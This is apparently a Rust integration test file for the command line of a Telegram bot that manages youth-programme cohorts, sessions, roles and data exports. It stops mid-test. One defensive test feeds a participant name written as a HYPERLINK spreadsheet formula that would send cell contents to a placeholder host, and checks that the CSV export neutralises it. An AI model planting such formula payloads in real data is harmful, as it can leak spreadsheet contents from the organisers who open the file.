//! The command line: the binary run as an organiser would run it, on a fresh database.

use std::path::Path;

use crate::support::cli::{Cli, stderr, stdout};

#[test]
fn help_lists_every_command() {
    let cli = Cli::new();
    let help = cli.run(&["--help"]);
    assert!(help.status.success());
    for command in ["serve", "simulate", "check-dialogues", "cohorts", "roles", "export"] {
        assert!(stdout(&help).contains(command), "{command} missing from --help");
    }
    let add_help = cli.run(&["cohorts", "add", "--help"]);
    assert!(stdout(&add_help).contains("--qr <FILE.png>"));
}

#[test]
fn cohorts_add_prints_the_deep_link_and_writes_a_qr_code() {
    let cli = Cli::new();
    let env = [("BOT_USERNAME", "@ActiveCitizensBot")];
    let qr = cli.path("tirana.png");
    let qr_arg = qr.to_str().unwrap();
    let added = cli
        .run_with(&["cohorts", "add", "tirana-2026", "--name", "Tirana 2026", "--country", "al", "--qr", qr_arg], &env);
    assert!(added.status.success(), "{}", stderr(&added));
    assert!(stdout(&added).contains("https://t.me/ActiveCitizensBot?start=TIRANA-2026"), "{}", stdout(&added));
    let png = std::fs::read(&qr).expect("the QR code is written");
    assert_eq!(crate::support::scan_qr(&png), "https://t.me/ActiveCitizensBot?start=TIRANA-2026");

    let again = cli.run_with(&["cohorts", "add", "TIRANA-2026", "--name", "Again"], &env);
    assert!(!again.status.success());
    assert!(stderr(&again).contains("a cohort with the code TIRANA-2026 already exists"), "{}", stderr(&again));

    assert!(stdout(&cli.run(&["cohorts", "add", "SKOPJE-2026", "--name", "Skopje"])).contains("start=SKOPJE-2026"));
    cli.simulate("5", &[], "/start TIRANA-2026\n1\n1\nAna\n2001\n1\n1\nTirana\n1\n");
    let list = stdout(&cli.run(&["cohorts", "list"]));
    assert_eq!(
        list,
        "SKOPJE-2026      -       0 participants  Skopje\nTIRANA-2026      AL       1 participant  Tirana 2026\n"
    );
}

#[test]
fn bad_cohort_input_is_refused_and_nothing_is_added() {
    let cli = Cli::new();
    let bad_code = cli.run(&["cohorts", "add", "no spaces", "--name", "X Y"]);
    assert!(!bad_code.status.success());
    assert!(stderr(&bad_code).contains("only letters A-Z, digits, '-' and '_'"), "{}", stderr(&bad_code));
    let bad_country = cli.run(&["cohorts", "add", "OK-1", "--name", "Okay", "--country", "YU"]);
    assert!(stderr(&bad_country).contains("--country"), "{}", stderr(&bad_country));
    let qr = cli.path("x.png");
    let no_username = cli.run(&["cohorts", "add", "OK-1", "--name", "Okay", "--qr", qr.to_str().unwrap()]);
    assert!(stderr(&no_username).contains("BOT_USERNAME"), "{}", stderr(&no_username));
    // None of these added the cohort: adding it now works.
    let added = cli.run(&["cohorts", "add", "OK-1", "--name", "Okay"]);
    assert!(added.status.success(), "{}", stderr(&added));
    assert!(stdout(&added).contains("https://t.me/<bot>?start=OK-1"));
}

#[test]
fn roles_are_granted_once_and_checked() {
    let cli = Cli::new();
    let granted = cli.run(&["roles", "grant", "12345", "organiser"]);
    assert!(granted.status.success(), "{}", stderr(&granted));
    assert_eq!(stdout(&granted).trim(), "Granted organiser (all cohorts) to 12345.");
    let again = cli.run(&["roles", "grant", "12345", "organiser"]);
    assert!(stdout(&again).contains("already is organiser"));
    let participant = cli.run(&["roles", "grant", "12345", "participant"]);
    assert!(!participant.status.success());
    assert!(stderr(&participant).contains("invalid value 'participant'"));
    let scoped = cli.run(&["roles", "grant", "12345", "organiser", "--cohort", "X1"]);
    assert!(stderr(&scoped).contains("facilitators only"));
    let missing = cli.run(&["roles", "grant", "777", "facilitator", "--cohort", "NOPE"]);
    assert!(stderr(&missing).contains("no cohort has the code NOPE"), "{}", stderr(&missing));
}

#[test]
fn roles_are_listed_and_revoked_as_they_were_granted() {
    let cli = Cli::new();
    assert!(cli.run(&["roles", "list"]).status.success());
    assert!(cli.run(&["cohorts", "add", "TIRANA-2026", "--name", "Tirana"]).status.success());
    assert!(cli.run(&["roles", "grant", "42", "facilitator", "--cohort", "TIRANA-2026"]).status.success());
    assert!(cli.run(&["roles", "grant", "43", "organiser"]).status.success());
    let list = stdout(&cli.run(&["roles", "list"]));
    let rows: Vec<Vec<&str>> = list.lines().map(|l| l.split_whitespace().collect()).collect();
    assert_eq!(rows.len(), 2, "{list}");
    assert_eq!(rows[0][..4], ["42", "facilitator", "cohort", "TIRANA-2026"], "{list}");
    assert_eq!(rows[1][..4], ["43", "organiser", "all", "cohorts"], "{list}");
    assert_eq!(rows[1].last(), Some(&"cli"), "{list}");

    // A grant is revoked as it was made: the facilitator of one cohort is no facilitator of all.
    let wrong = cli.run(&["roles", "revoke", "42", "facilitator"]);
    assert!(!wrong.status.success());
    assert!(
        stderr(&wrong).contains(
            "42 is not facilitator (all cohorts), so nothing was revoked; they hold facilitator (cohort TIRANA-2026)"
        ),
        "{}",
        stderr(&wrong)
    );
    let revoked = cli.run(&["roles", "revoke", "42", "facilitator", "--cohort", "tirana-2026"]);
    assert_eq!(stdout(&revoked).trim(), "Revoked facilitator (cohort TIRANA-2026) from 42.", "{}", stderr(&revoked));
    // Compared by the id column: the grant's time may itself contain "42".
    let list = stdout(&cli.run(&["roles", "list"]));
    let ids: Vec<&str> = list.lines().filter_map(|l| l.split_whitespace().next()).collect();
    assert_eq!(ids, ["43"], "{list}");
    let audit = stdout(&cli.run(&["audit"]));
    assert!(audit.contains("role_revoked") && audit.contains("facilitator (cohort TIRANA-2026) from 42"), "{audit}");
}

#[test]
fn export_participants_writes_csv_and_json() {
    let cli = Cli::new();
    let empty = cli.run(&["export", "participants"]);
    assert!(empty.status.success(), "{}", stderr(&empty));
    let header = stdout(&empty);
    assert!(header.starts_with("\u{feff}telegram_id,name,language,country,cohort,status,"), "{header}");

    // Register someone through the simulator, then export.
    let registered = cli.simulate("55", &[], "/start\n1\n1\nAna, \"the\" organiser\n2000\n1\n6\nNovi Sad\n1\n1\n");
    assert!(registered.contains("Thank you, Ana"), "{registered}");

    let csv = cli.run(&["export", "participants", "--format", "csv"]);
    let text = stdout(&csv);
    let mut lines = text.lines();
    lines.next();
    let row = lines.next().expect("one participant");
    assert!(row.starts_with(r#"55,"Ana, ""the"" organiser",en,RS,,active,2000,female,Novi Sad,,"#), "{row}");
    // Times in UTC to the second, as spreadsheets and scripts read them: consent, registered, last changed.
    let times: Vec<&str> = row.split(',').filter(|cell| cell.contains('T')).collect();
    assert_eq!(times.len(), 3, "{row}");
    for time in times {
        assert!(
            chrono::DateTime::parse_from_rfc3339(time).is_ok() && time.len() == 20 && time.ends_with('Z'),
            "{time}"
        );
    }

    let out = cli.path("people.json");
    let json = cli.run(&["export", "participants", "--format", "json", "--out", out.to_str().unwrap()]);
    assert!(json.status.success(), "{}", stderr(&json));
    let value: serde_json::Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    assert_eq!(value[0]["telegram_id"], 55);
    assert_eq!(value[0]["name"], "Ana, \"the\" organiser");
    assert_eq!(value[0]["status"], "active");
    let audit = stdout(&cli.run(&["audit"]));
    assert!(audit.contains("0 rows of participants") && audit.contains("1 row of participants"), "{audit}");
}

#[test]
fn a_name_written_as_a_formula_is_text_in_the_csv_export_and_exact_in_json() {
    let cli = Cli::new();
    // Anyone can register, and organisers open CSV exports in spreadsheets, which would run this.
    let name = "=HYPERLINK(\"http://example.test/?\"&A1,\"Open\")";
    let registered = cli.simulate("56", &[], &format!("/start\n1\n1\n{name}\n2000\n1\n6\n-Novi Sad\n1\n1\n"));
    assert!(registered.contains("You are registered"), "{registered}");
    let csv = stdout(&cli.run(&["export", "participants"]));
    let row = csv.lines().nth(1).expect("one participant");
    assert!(row.starts_with(r#"56,"'=HYPERLINK(""http://example.test/?""&A1,""Open"")",en,RS,"#), "{row}");
    assert!(row.contains(",'-Novi Sad,"), "{row}");
    let json = stdout(&cli.run(&["export", "participants", "--format", "json"]));
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!((value[0]["name"].as_str(), value[0]["municipality"].as_str()), (Some(name), Some("-Novi Sad")));
}

#[test]
fn simulate_registers_in_albanian_from_a_pipe_and_exits_at_the_end() {
    let cli = Cli::new();
    let out = cli.simulate("1", &[], "/start\n2\n1\nDrita\n2001\n1\n1\nShkoder\n1\n1\n/mydata\n");
    assert!(out.contains("you> Drita"));
    assert!(out.contains("Faleminderit, Drita!"), "{out}");
    assert!(out.contains("Gjuha: Shqip"), "{out}");
    assert!(Path::new(&cli.path("bot.db")).exists(), "the database file is created");
    assert!(!cli.path("bot.db-wal").exists(), "the write-ahead log is copied into the database file at the end");
}

/// The terminal does not keep the chat as Telegram does: a `simulate` started on a conversation left in the
/// middle of a question shows the question again, so that its numbered buttons answer it.
#[test]
fn simulate_started_again_asks_the_open_question_again() {
    let cli = Cli::new();
    let first = cli.simulate("3", &[], "/start\n1\n");
    assert!(first.contains("     [1] I agree"), "{first}");
    let again = cli.simulate("3", &[], "1\n");
    let (shown, answered) = again.split_once("you> 1\n").expect("the question comes before the answer");
    assert!(shown.contains("     [1] I agree"), "the consent question, with its buttons: {again}");
    assert!(answered.contains("What is your name?"), "the button answered it: {again}");
    let idle = cli.simulate("4", &[], "");
    assert_eq!(idle, "", "a new chat has nothing to show");
}

/// What `serve`'s delivery worker would send the person played reaches the terminal: here the reminder of a
/// session added from the command line, whose 24-hour reminder is already late.
#[test]
fn simulate_shows_a_reminder_due_for_the_person_played() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "TIRANA-2026", "--name", "Tirana"]).status.success());
    cli.simulate("5", &[], "/start TIRANA-2026\n1\n1\nAna\n2001\n1\n1\nTirana\n1\n");
    let starts = (chrono::Utc::now() + chrono::Duration::hours(3)).with_timezone(&chrono_tz::Europe::Belgrade);
    let shown = starts.format("%A %-d %B, %H:%M").to_string(); // as an English reader sees it
    let starts = starts.format("%Y-%m-%d %H:%M").to_string();
    let added = cli.run(&["sessions", "add", "--cohort", "TIRANA-2026", "--title", "Kick-off", "--starts", &starts]);
    assert!(added.status.success(), "{}", stderr(&added));

    let out = cli.simulate("5", &[], "1\n/sessions\n");
    let (arrived, rest) = out.split_once("you> 1\n").expect("the reminder comes before the first line");
    assert!(arrived.starts_with("bot> Reminder: Kick-off"), "{out}");
    assert!(arrived.contains(&shown) && arrived.contains("     [1] Coming"), "{out}");
    assert!(rest.contains("Saved: you are coming") && rest.contains("Your answer: coming"), "{out}");
    let again = cli.simulate("5", &[], "/help\n");
    assert!(!again.contains("Reminder"), "sent once: {again}");
}

/// ADMIN_IDS makes organisers in `simulate` as in `serve`, so that their commands can be tried in the terminal;
/// the links they make name the bot of BOT_USERNAME.
#[test]
fn simulate_makes_the_admin_ids_organisers() {
    let cli = Cli::new();
    let admin = [("ADMIN_IDS", "7")];
    let out = cli.simulate("7", &admin, "/stats\n/grant\n2\n");
    assert!(!out.contains("that command is for"), "{out}");
    assert!(out.contains("The programme so far: 0 participants"), "{out}");
    // No username given, and none recorded by `serve`: the link says where it goes.
    assert!(out.contains(" https://t.me/<bot>?start=invite-"), "{out}");
    let audit = stdout(&cli.run(&["audit"]));
    assert!(audit.contains("organiser to 7"), "{audit}");

    let named = cli.simulate("7", &[admin[0], ("BOT_USERNAME", "ActiveCitizensBot")], "/grant\n2\n");
    assert!(named.contains(" https://t.me/ActiveCitizensBot?start=invite-"), "{named}");
}

/// A session made in the chat comes with its check-in link as a QR code, once the link names the bot.
#[test]
fn simulate_shows_a_new_sessions_qr_code_when_the_bot_is_named() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "--name", "Tirana", "TIRANA-2026"]).status.success());
    let admin = ("ADMIN_IDS", "7");
    let new_session = |title: &str| format!("/newsession\n1\n{title}\n5\n2030-01-15 18:00\n2h\nYouth Centre\n1\n");
    let unnamed = cli.simulate("7", &[admin], &new_session("Without a name"));
    assert!(unnamed.contains("Session created: Without a name"), "{unnamed}");
    assert!(!unnamed.contains("bot (photo)>"), "no QR code of a link to <bot>: {unnamed}");

    let named = cli.simulate("7", &[admin, ("BOT_USERNAME", "ActiveCitizensBot")], &new_session("With a name"));
    let code = named.split("start=checkin-").nth(1).and_then(|rest| rest.lines().next()).expect("a check-in link");
    assert!(named.contains(&format!("bot (photo)> checkin-{code}.png (")), "{named}");
}

#[test]
fn serve_without_a_token_explains_how_to_get_one() {
    let cli = Cli::new();
    let out = cli.run(&["serve"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("TELOXIDE_TOKEN is not set") && err.contains("@BotFather") && err.contains("simulate"),
        "{err}"
    );
    // serve is the default command.
    let default = cli.run(&[]);
    assert!(stderr(&default).contains("TELOXIDE_TOKEN is not set"));
}

#[test]
fn bad_settings_stop_the_start_naming_the_variable() {
    let cli = Cli::new();
    for (variable, value) in
        [("TIMEZONE", "Mars/Olympus"), ("ADMIN_IDS", "me"), ("LOG_FORMAT", "xml"), ("DEFAULT_LANGUAGE", "de")]
    {
        let out = cli.run_with(&["simulate"], &[(variable, value)]);
        assert!(!out.status.success(), "{variable}={value} was accepted");
        assert!(stderr(&out).contains(&format!("{variable}:")), "{variable}: {}", stderr(&out));
    }
}

/// An organiser may copy the database file after a command, with the bot stopped, as they would any file: it must
/// hold what the command wrote, not leave it in SQLite's write-ahead log beside it.
#[test]
fn a_database_file_copied_after_a_command_holds_what_the_command_wrote() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "SKOPJE-1", "--name", "Skopje one"]).status.success());
    let added = cli.run(&[
        "sessions",
        "add",
        "--cohort",
        "SKOPJE-1",
        "--title",
        "Local communities",
        "--starts",
        "2031-05-05 10:00",
    ]);
    assert!(added.status.success(), "{}", stderr(&added));
    for beside in ["bot.db-wal", "bot.db-shm"] {
        assert!(!cli.path(beside).exists(), "{beside} left beside the database");
    }

    let elsewhere = Cli::new();
    std::fs::copy(cli.path("bot.db"), elsewhere.path("bot.db")).unwrap();
    let list = stdout(&elsewhere.run(&["sessions", "list"]));
    assert!(list.contains("SKOPJE-1") && list.contains("Local communities"), "{list}");
}

#[test]
fn sessions_are_added_listed_edited_and_cancelled() {
    let cli = Cli::new();
    let env = [("BOT_USERNAME", "ActiveCitizensBot")];
    assert!(cli.run(&["cohorts", "add", "TIRANA-2026", "--name", "Tirana 2026"]).status.success());
    let qr = cli.path("checkin.png");
    let args = [
        "sessions",
        "add",
        "--cohort",
        "tirana-2026",
        "--title",
        "Identity and culture",
        "--starts",
        "2030-03-05 18:00",
        "--tz",
        "Europe/Tirane",
        "--duration",
        "1h30m",
        "--location",
        "Youth Centre",
        "--qr",
        qr.to_str().unwrap(),
    ];
    let added = cli.run_with(&args, &env);
    assert!(added.status.success(), "{}", stderr(&added));
    let out = stdout(&added);
    assert!(out.contains("Added session 1: Identity and culture (2030-03-05 18:00)."), "{out}");
    let link = out.lines().find_map(|l| l.strip_prefix("Check-in link: ")).expect("the link is printed");
    assert!(link.starts_with("https://t.me/ActiveCitizensBot?start=checkin-"), "{out}");
    assert_eq!(crate::support::scan_qr(&std::fs::read(&qr).unwrap()), link, "the QR code is the link");

    let past =
        cli.run(&["sessions", "add", "--cohort", "TIRANA-2026", "--title", "Kick-off", "--starts", "2020-01-10 10:00"]);
    assert!(stdout(&past).contains("no reminders will be sent"), "{}", stdout(&past));

    let edited = cli.run(&["sessions", "edit", "1", "--starts", "2030-03-06 17:30", "--location", "Library"]);
    assert!(edited.status.success(), "{}", stderr(&edited));
    let list = stdout(&cli.run(&["sessions", "list", "--cohort", "TIRANA-2026"]));
    assert!(list.contains("2030-03-06 17:30 Europe/Tirane") && list.contains("@ Library"), "{list}");
    assert!(cli.run(&["sessions", "cancel", "1"]).status.success());
    assert!(stdout(&cli.run(&["sessions", "list"])).contains("cancelled"));
    let again = cli.run(&["sessions", "cancel", "1"]);
    assert!(stderr(&again).contains("already cancelled"));
    let missing = cli.run(&["sessions", "edit", "99", "--title", "X"]);
    assert!(stderr(&missing).contains("no session has the id 99"));
}

#[test]
fn bad_zones_dates_and_durations_are_refused() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "C1", "--name", "Cohort one"]).status.success());
    let base = ["sessions", "add", "--cohort", "C1", "--title", "Dialogue"];
    for (extra, expected) in [
        (vec!["--starts", "2030-02-30 10:00"], "--starts: '2030-02-30 10:00' is not a date and time"),
        (vec!["--starts", "tomorrow"], "--starts: 'tomorrow' is not a date and time"),
        (vec!["--starts", "2030-03-31 02:30", "--tz", "Europe/Belgrade"], "does not exist in Europe/Belgrade"),
        (vec!["--starts", "2030-03-05 18:00", "--tz", "Belgrade"], "--tz: 'Belgrade' is not an IANA time zone"),
        (vec!["--starts", "2030-03-05 18:00", "--duration", "2 hours"], "--duration: '2 hours' is not a duration"),
    ] {
        let args: Vec<&str> = base.iter().copied().chain(extra).collect();
        let out = cli.run(&args);
        assert!(!out.status.success());
        assert!(stderr(&out).contains(expected), "{expected}: {}", stderr(&out));
    }
    assert!(stdout(&cli.run(&["sessions", "list"])).contains("No sessions."));
}

#[test]
fn an_import_with_a_bad_row_imports_nothing_and_names_line_and_column() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "C1", "--name", "Cohort one"]).status.success());
    let file = cli.path("sessions.csv");
    std::fs::write(
        &file,
        "cohort,title,starts,timezone,duration,location\n\
         C1,Identity and culture,2030-03-05 18:00,,2h,Youth Centre\n\
         C1,Dialogue,2030-03-12 18:00,Europe/Skopje,90m,\n\
         C1,Planning,2030-03-19 18:00,Mars/Olympus,2h,Library\n",
    )
    .unwrap();
    let refused = cli.run(&["sessions", "import", file.to_str().unwrap()]);
    assert!(!refused.status.success());
    let err = stderr(&refused);
    assert!(err.contains("line 4, column timezone: 'Mars/Olympus' is not an IANA time zone"), "{err}");
    assert!(err.contains("nothing imported: 1 problem(s)"), "{err}");
    assert!(stdout(&cli.run(&["sessions", "list"])).contains("No sessions."));

    std::fs::write(&file, std::fs::read_to_string(&file).unwrap().replace("Mars/Olympus", "Europe/Tirane")).unwrap();
    let imported = cli.run(&["sessions", "import", file.to_str().unwrap()]);
    assert!(stdout(&imported).contains("Imported 3 sessions"), "{}", stderr(&imported));
    let unknown_column = cli.path("extra.csv");
    std::fs::write(&unknown_column, "cohort,title,starts,colour\nC1,T1,2030-03-05 18:00,red\n").unwrap();
    let out = cli.run(&["sessions", "import", unknown_column.to_str().unwrap()]);
    assert!(stderr(&out).contains("line 2") && stderr(&out).contains("colour"), "{}", stderr(&out));
}

#[test]
fn export_rsvps_has_a_header_even_when_empty() {
    let cli = Cli::new();
    let out = cli.run(&["export", "rsvps", "--no-bom"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out).trim(),
        "telegram_id,session,session_title,cohort,starts_at,rsvp,checked_in,answered_at,checked_in_at"
    );
    let json = cli.run(&["export", "rsvps", "--format", "json"]);
    assert_eq!(stdout(&json).trim(), "[]");
}

#[test]
fn sessions_name_their_survey_and_feedback_exports_in_three_formats() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "C1", "--name", "Cohort one"]).status.success());
    let base = ["sessions", "add", "--cohort", "C1", "--title", "Dialogue", "--starts", "2030-03-05 18:00", "--survey"];
    let unknown = cli.run(&[&base[..], &["nope"]].concat());
    assert!(stderr(&unknown).contains("--survey: no survey has the id 'nope'"), "{}", stderr(&unknown));
    let named = cli.run(&[&base[..], &["wellbeing"]].concat());
    assert!(named.status.success(), "{}", stderr(&named));

    let csv = cli.run(&["export", "feedback"]);
    assert!(csv.status.success(), "{}", stderr(&csv));
    let header = stdout(&csv);
    assert!(
        header.starts_with("\u{feff}response,session,session_title,cohort,survey,survey_version,submitted_at,"),
        "{header}"
    );
    assert!(
        header.contains("Would you recommend the programme to a friend?") && header.contains("Did you feel safe"),
        "{header}"
    );
    let no_out = cli.run(&["export", "feedback", "--format", "xlsx"]);
    assert!(stderr(&no_out).contains("--out FILE.xlsx"), "{}", stderr(&no_out));
    let file = cli.path("feedback.xlsx");
    let xlsx = cli.run(&["export", "feedback", "--format", "xlsx", "--out", file.to_str().unwrap()]);
    assert!(xlsx.status.success(), "{}", stderr(&xlsx));
    assert_eq!(&std::fs::read(&file).unwrap()[..2], b"PK");
    assert_eq!(stdout(&cli.run(&["export", "feedback", "--format", "json"])).trim(), "[]");
    let audit = stdout(&cli.run(&["audit"]));
    assert!(
        audit.contains("export") && audit.contains("rows of feedback") && audit.contains("session_created"),
        "{audit}"
    );
}

#[tokio::test]
async fn summary_prints_markdown_or_json_draws_the_chart_and_recommendations_export() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "TIRANA-2026", "--name", "Tirana"]).status.success());
    let empty = stdout(&cli.run(&["summary"]));
    assert!(empty.contains("\n## By theme\n\n(none approved yet)\n\n## By level\n"), "{empty}");
    assert!(!empty.contains("| value |"), "no table without rows: {empty}");
    let pool =
        active_citizens_bot::storage::connect(&format!("sqlite://{}", cli.path("bot.db").display())).await.unwrap();
    for id in 1..=7 {
        let country = if id <= 5 {
            active_citizens_bot::domain::Country::Kosovo
        } else {
            active_citizens_bot::domain::Country::Montenegro
        };
        let profile = crate::support::fixtures::profile(id, "TIRANA-2026", "en", country);
        let mut tx = active_citizens_bot::storage::begin_write(&pool).await.unwrap();
        active_citizens_bot::storage::participants::save(&mut tx, &profile, None, crate::support::test_now())
            .await
            .unwrap();
        let theme = if id <= 5 { "environment-community" } else { "participation" };
        let text = format!("Plant trees along the river, proposal {id}, with \"quotes\", commas");
        active_citizens_bot::storage::recommendations::insert(
            &mut tx,
            id,
            theme,
            "local",
            &text,
            crate::support::test_now(),
        )
        .await
        .unwrap();
        tx.commit().await.unwrap();
    }
    sqlx::query("UPDATE recommendations SET status = 'approved'").execute(&pool).await.unwrap();
    pool.close().await;

    let chart = cli.path("chart.png");
    let md = cli.run(&["summary", "--chart", chart.to_str().unwrap()]);
    assert!(md.status.success(), "{}", stderr(&md));
    let text = stdout(&md);
    assert!(text.starts_with("# Youth recommendations\n\n7 approved, 0 pending, 0 rejected."), "{text}");
    assert!(
        text.contains("| Environment and community | 5 |") && text.contains("| Youth participation | <5 |"),
        "{text}"
    );
    assert!(text.contains("| Kosovo | 5 |\n| Others (fewer than 5 people each) | <5 |"), "{text}");
    assert!(!text.contains("Montenegro"), "the two people in Montenegro are not pointed at: {text}");
    assert_eq!(&std::fs::read(&chart).unwrap()[..4], b"\x89PNG");

    let json = cli.run(&["summary", "--format", "json"]);
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).expect("only JSON on standard output");
    assert_eq!(value["approved"], 7);
    let countries = &value["sections"][2];
    assert_eq!(countries[0], "country");
    assert_eq!(countries[1], serde_json::json!([["XK", 5], ["others", "<5"]]));

    let csv = stdout(&cli.run(&["export", "recommendations"]));
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("\u{feff}id,theme,level,language,text,text_en,status,endorsements,created_at"));
    assert!(lines.next().unwrap().starts_with("1,environment-community,local,en,\"Plant trees along the river, proposal 1, with \"\"quotes\"\", commas\",,approved,0,"));
    // JSON as typed as the other exports: numbers as numbers, keys in column order.
    let json = stdout(&cli.run(&["export", "recommendations", "--format", "json"]));
    let value: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!((&value[0]["id"], &value[0]["endorsements"]), (&serde_json::json!(1), &serde_json::json!(0)));
    assert!(json.find("\"id\"") < json.find("\"theme\"") && json.find("\"status\"") < json.find("\"created_at\""));
}

#[tokio::test]
async fn a_backup_taken_while_the_bot_writes_restores_to_a_consistent_database() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "C1", "--name", "Cohort one"]).status.success());
    let url = format!("sqlite://{}", cli.path("bot.db").display());
    let pool = active_citizens_bot::storage::connect(&url).await.unwrap();
    // Someone registers participants, one transaction each, while the backup runs.
    let writer = tokio::spawn(async move {
        for id in 1..=400 {
            let profile =
                crate::support::fixtures::profile(id, "C1", "en", active_citizens_bot::domain::Country::Serbia);
            let mut tx = active_citizens_bot::storage::begin_write(&pool).await.unwrap();
            active_citizens_bot::storage::participants::save(&mut tx, &profile, None, crate::support::test_now())
                .await
                .unwrap();
            tx.commit().await.unwrap();
        }
    });
    let file = cli.path("copy.db");
    let out = tokio::task::spawn_blocking({
        let mut command = cli.command(&["backup", file.to_str().unwrap()]);
        move || command.output().unwrap()
    })
    .await
    .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    writer.await.unwrap();

    let copy = active_citizens_bot::storage::connect(&format!("sqlite://{}", file.display())).await.unwrap();
    let check: String = sqlx::query_scalar("PRAGMA integrity_check").fetch_one(&copy).await.unwrap();
    assert_eq!(check, "ok");
    let people: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM participants").fetch_one(&copy).await.unwrap();
    assert!((0..=400).contains(&people));
    let cohorts: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM cohorts").fetch_one(&copy).await.unwrap();
    assert_eq!(cohorts, 1);
    let again = cli.run(&["backup", file.to_str().unwrap()]);
    assert!(stderr(&again).contains("exists already"), "{}", stderr(&again));
}

#[tokio::test]
async fn an_export_whose_reader_stops_early_ends_quietly() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "TIRANA-2026", "--name", "Tirana"]).status.success());
    let pool = active_citizens_bot::storage::connect(&format!("sqlite://{}", cli.path("bot.db").display()))
        .await
        .expect("the database opens");
    let mut tx = active_citizens_bot::storage::begin_write(&pool).await.expect("a transaction");
    for id in 1..=3_000 {
        let profile =
            crate::support::fixtures::profile(id, "TIRANA-2026", "en", active_citizens_bot::domain::Country::Albania);
        active_citizens_bot::storage::participants::save(&mut tx, &profile, None, crate::support::test_now())
            .await
            .expect("saved");
    }
    tx.commit().await.expect("committed");
    pool.close().await;
    for format in ["csv", "json"] {
        // As `export … | head -c 1`: the reader takes a little and goes, with far more than a pipe holds unread.
        let mut child = cli
            .command(&["export", "participants", "--format", format])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("runs");
        let mut first = [0_u8; 1];
        std::io::Read::read_exact(child.stdout.as_mut().expect("a pipe"), &mut first).expect("a byte");
        drop(child.stdout.take());
        let output = child.wait_with_output().expect("ends");
        assert!(output.status.success(), "{format}: {}", stderr(&output));
        assert!(!stderr(&output).contains("Broken pipe"), "{format}: {}", stderr(&output));
    }
}

#[test]
fn an_export_goes_into_a_file_named_for_its_format() {
    let cli = Cli::new();
    let out = cli.path("recs.csv");
    let refused = cli.run(&["export", "recommendations", "--format", "xlsx", "--out", out.to_str().expect("UTF-8")]);
    assert!(!refused.status.success());
    assert!(stderr(&refused).contains("name it .xlsx, or give --format csv"), "{}", stderr(&refused));
    assert!(!out.exists(), "nothing written");
    let fine = cli.path("recs.xlsx");
    assert!(
        cli.run(&["export", "recommendations", "--format", "xlsx", "--out", fine.to_str().expect("UTF-8")])
            .status
            .success()
    );
    // A name without one of the three extensions is the organiser's choice.
    let plain = cli.path("recs.txt");
    assert!(cli.run(&["export", "recommendations", "--out", plain.to_str().expect("UTF-8")]).status.success());
}

/// On a terminal the log (standard error) and the conversation (standard output) share the screen: `simulate`
/// logs only warnings and errors unless RUST_LOG asks for more.
#[test]
fn simulate_keeps_the_terminal_for_the_conversation() {
    let cli = Cli::new();
    assert!(cli.run(&["cohorts", "add", "C1", "--name", "One"]).status.success());
    // A session a few hours away: simulate's delivery queues its reminders, which is logged at info level.
    let add_session = |title: &str| {
        let starts = (chrono::Utc::now() + chrono::Duration::hours(3)).with_timezone(&chrono_tz::Europe::Belgrade);
        let starts = starts.format("%Y-%m-%d %H:%M").to_string();
        let added = cli.run(&["sessions", "add", "--cohort", "C1", "--title", title, "--starts", &starts]);
        assert!(added.status.success(), "{}", stderr(&added));
    };
    let run = |log: Option<&str>| {
        let mut command = cli.command(&["simulate"]);
        match log {
            Some(filter) => command.env("RUST_LOG", filter),
            None => command.env_remove("RUST_LOG"),
        };
        let done = command.stdin(std::process::Stdio::null()).output().expect("the binary runs");
        assert!(done.status.success(), "{}", stderr(&done));
        stderr(&done)
    };
    add_session("First");
    assert_eq!(run(None), "", "nothing logged at the default level");
    add_session("Second");
    assert!(run(Some("info")).contains("reminders queued"), "RUST_LOG still asks for more");
}

/// `--qr` to a path that cannot be written stores nothing, so the retry makes no second cohort or session
/// (with its reminders twice).
#[test]
fn a_qr_code_that_cannot_be_written_stores_nothing() {
    let cli = Cli::new();
    let named = [("BOT_USERNAME", "ActiveCitizensBot")];
    let nowhere = cli.path("no-such-folder/code.png");
    let nowhere = nowhere.to_str().unwrap();
    let failed = cli.run_with(&["cohorts", "add", "C1", "--name", "One", "--qr", nowhere], &named);
    assert!(!failed.status.success());
    assert!(stderr(&failed).contains("nothing was stored"), "{}", stderr(&failed));
    assert!(stdout(&cli.run(&["cohorts", "list"])).contains("No cohorts."));
    let png = cli.path("c1.png");
    let added = cli.run_with(&["cohorts", "add", "C1", "--name", "One", "--qr", png.to_str().unwrap()], &named);
    assert!(added.status.success() && png.exists(), "{}", stderr(&added));

    let session = ["sessions", "add", "--cohort", "C1", "--title", "Kick-off", "--starts", "2030-03-05 18:00", "--qr"];
    let failed = cli.run_with(&[&session[..], &[nowhere]].concat(), &named);
    assert!(!failed.status.success() && stderr(&failed).contains("nothing was stored"), "{}", stderr(&failed));
    assert!(stdout(&cli.run(&["sessions", "list"])).contains("No sessions."));
    let png = cli.path("s.png");
    let added = cli.run_with(&[&session[..], &[png.to_str().unwrap()]].concat(), &named);
    assert!(added.status.success() && png.exists(), "{}", stderr(&added));
    assert_eq!(stdout(&cli.run(&["sessions", "list"])).lines().count(), 1, "one session");
    let taken = cli.run_with(&["cohorts", "add", "C1", "--name", "Again", "--qr", png.to_str().unwrap()], &named);
    assert!(!taken.status.success(), "the code is taken");
    assert!(png.exists(), "a file of that name is left as it was");
